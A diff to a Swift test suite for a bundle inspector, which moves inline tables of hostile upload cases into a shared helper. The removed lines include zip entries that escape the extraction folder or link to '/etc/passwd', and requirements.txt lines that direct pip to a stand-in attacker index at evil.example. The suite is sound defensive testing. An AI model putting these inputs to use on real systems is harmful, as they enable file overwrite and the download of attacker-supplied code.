@@ -11,35 +11,11 @@ import Testing
 /// extracted or queued.
 @Suite("Hostile bundles are refused")
 struct HostileBundleTests {
-    static func zip(_ build: (inout RawZipBuilder) -> Void) throws -> String {
-        var builder = RawZipBuilder()
-        build(&builder)
-        let path = NSTemporaryDirectory() + "ferry-hostile-\(UUID().uuidString).zip"
-        try builder.write(to: path)
-        return path
-    }
+    static func zip(_ build: (inout RawZipBuilder) -> Void) throws -> String { try HostileBundles.zip(build) }
 
-    static func withRequirements(_ text: String) throws -> String {
-        try zip { $0.file("p/code.py", "print(1)"); $0.file("p/requirements.txt", text) }
-    }
-
-    static let archiveCases: [(String, String, @Sendable (inout RawZipBuilder) -> Void)] = [
-        ("absolute path", "bundle.unsafe_path", { $0.file("/etc/cron.d/evil", "x"); $0.file("p/code.py", "") }),
-        ("parent folder", "bundle.unsafe_path", { $0.file("../evil.py", "x"); $0.file("p/code.py", "") }),
-        ("parent inside a path", "bundle.unsafe_path", { $0.file("p/../../evil.py", "x"); $0.file("p/code.py", "") }),
-        ("symbolic link", "bundle.symlink", { $0.file("p/code.py", ""); $0.symlink("p/data", to: "/etc/passwd") }),
-        ("named pipe", "bundle.not_regular_file", { $0.file("p/code.py", ""); $0.add(.init(name: "p/fifo", data: [], mode: 0o010644)) }),
-        ("device", "bundle.not_regular_file", { $0.file("p/code.py", ""); $0.add(.init(name: "p/disk", data: [], mode: 0o060644)) }),
-        ("encrypted entry", "bundle.encrypted", { $0.add(.init(name: "p/code.py", data: Array("print(1)".utf8), encrypted: true)) }),
-        ("no code.py", "bundle.missing_code_py", { $0.file("p/main.py", "print(1)") }),
-        ("code.py too deep", "bundle.missing_code_py", { $0.file("a/b/code.py", "print(1)") }),
-        ("two project folders", "bundle.ambiguous_project", { $0.file("a/code.py", ""); $0.file("b/code.py", "") }),
-        ("only litter", "bundle.empty", { $0.file("__MACOSX/._code.py", "x"); $0.file(".DS_Store", "x") }),
-    ]
-
-    @Test(arguments: 0..<archiveCases.count)
+    @Test(arguments: 0..<HostileBundles.archives.count)
     func archiveFormsAreRefused(_ index: Int) throws {
-        let (label, code, build) = Self.archiveCases[index]
+        let (label, code, build) = HostileBundles.archives[index]
         let path = try Self.zip(build)
         defer { try? FileManager.default.removeItem(atPath: path) }
         let error = try #require(throws: BundleError.self, "\(label)") { try BundleInspector.inspect(archive: path, uploadName: "p.zip") }
@@ -47,30 +23,10 @@ struct HostileBundleTests {
         #expect(!error.message.isEmpty)
     }
 
-    static let requirementCases: [(String, String)] = [
-        ("--index-url https://evil.example/simple\nnumpy\n", "bundle.requirements_option"),
-        ("-i https://evil.example/simple\n", "bundle.requirements_option"),
-        ("--extra-index-url https://evil.example/simple\n", "bundle.requirements_option"),
-        ("-f https://evil.example/wheels\n", "bundle.requirements_option"),
-        ("--find-links /tmp/wheels\n", "bundle.requirements_option"),
-        ("--trusted-host evil.example\n", "bundle.requirements_option"),
-        ("-e git+https://evil.example/repo.git#egg=x\n", "bundle.requirements_option"),
-        ("-r other.txt\n", "bundle.requirements_option"),
-        ("-c constraints.txt\n", "bundle.requirements_option"),
-        ("https://evil.example/pkg-1.0.tar.gz\n", "bundle.requirements_url"),
-        ("git+https://evil.example/repo.git\n", "bundle.requirements_url"),
-        ("./local/package\n", "bundle.requirements_path"),
-        ("/opt/wheels/pkg.whl\n", "bundle.requirements_path"),
-        ("numpy @ file:///home/conda/feedstock_root/build_artifacts/numpy_1700000000/work\n", "bundle.requirements_url"),
-        ("pkg @ https://evil.example/pkg.whl\n", "bundle.requirements_url"),
-        ("numpy==${NUMPY_VERSION}\n", "bundle.requirements_variable"),
-        ("numpy = = 1\n", "bundle.requirements_syntax"),
-    ]
-
-    @Test(arguments: 0..<requirementCases.count)
+    @Test(arguments: 0..<HostileBundles.requirements.count)
     func forbiddenRequirementsAreRefusedNamingTheLine(_ index: Int) throws {
-        let (text, code) = Self.requirementCases[index]
-        let path = try Self.withRequirements("# pinned\nrequests==2.31.0\n" + text)
+        let (text, code) = HostileBundles.requirements[index]
+        let path = try HostileBundles.withRequirements(text)
         defer { try? FileManager.default.removeItem(atPath: path) }
         let error = try #require(throws: BundleError.self) { try BundleInspector.inspect(archive: path, uploadName: "p.zip") }
         #expect(error.code == code, "\(text): \(error)")
@@ -78,7 +34,7 @@ struct HostileBundleTests {
     }
 
     @Test func allowedRequirementFormsPass() throws {
-        let path = try Self.withRequirements("numpy==1.26.4 ; python_version >= '3.9'\r\nrequests[socks]>=2,<3  # comment\nsix==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\n\n")
+        let path = try HostileBundles.zip { $0.file("p/code.py", "print(1)"); $0.file("p/requirements.txt", "numpy==1.26.4 ; python_version >= '3.9'\r\nrequests[socks]>=2,<3  # comment\nsix==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\n\n") }
         defer { try? FileManager.default.removeItem(atPath: path) }
         #expect(try BundleInspector.inspect(archive: path, uploadName: "p.zip").requirements.count == 3)
     }
